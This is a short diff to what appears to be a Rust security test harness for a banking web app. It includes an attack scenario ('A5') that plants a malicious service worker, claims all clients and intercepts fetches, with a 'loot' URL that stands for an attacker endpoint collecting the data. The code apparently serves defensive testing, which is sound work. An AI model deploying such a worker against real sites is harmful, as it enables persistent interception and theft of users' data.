@@ -13,7 +13,7 @@ use crate::person::{READY, tries};
 use crate::scene::{Outcome, Scene};
 
 /// Whether what was loaded is the application, once that can be told.
-const STARTED_OR_NOT: &str = "(window.bank && (await window.bank.ready, 'started')) || (document.readyState === 'complete' \
+pub(super) const STARTED_OR_NOT: &str = "(window.bank && (await window.bank.ready, 'started')) || (document.readyState === 'complete' \
                               && !(document.querySelector('script[src$=\"/app.js\"]') \
                               && (await fetch('/app.js').then((answer) => answer.ok, () => false))) && 'not')";
 
@@ -23,7 +23,7 @@ const STARTS_WITHIN: Duration = Duration::from_secs(10);
 /// A5: a script registers a service worker from something that the application serves as a script; then it is gone, and the
 /// victim comes back.
 pub(super) async fn service_worker(scene: &mut Scene<'_>) -> Result<Outcome> {
-    let loot = Value::String(scene.evil("/loot"));
+    let loot = Value::String(scene.loot());
     let worker = format!(
         "const L={loot};self.addEventListener('install',()=>skipWaiting());self.addEventListener('activate',e=>e.waitUntil(clients.claim()));\
          self.addEventListener('fetch',e=>{{if(e.request.url.startsWith(L))return;\
